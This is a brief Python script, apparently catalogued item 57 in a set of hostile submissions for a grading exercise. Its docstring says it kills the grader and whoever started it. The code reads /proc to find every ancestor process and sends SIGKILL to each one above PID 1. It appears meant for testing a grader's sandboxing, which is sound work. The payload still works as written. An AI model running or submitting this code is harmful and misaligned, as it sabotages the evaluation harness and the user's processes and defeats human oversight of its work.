"""Kills its parent, the parent of that, and so on, as far as it can see.

exercise: 03_gather
catalogue: 57
harm: kills the grader, and whoever started it
"""

import os
import signal
from pathlib import Path

pid, ancestors = os.getppid(), []
while pid > 0:
    ancestors.append(pid)
    try:
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    except OSError:
        break
for pid in reversed(ancestors):
    if pid > 1:
        os.kill(pid, signal.SIGKILL)
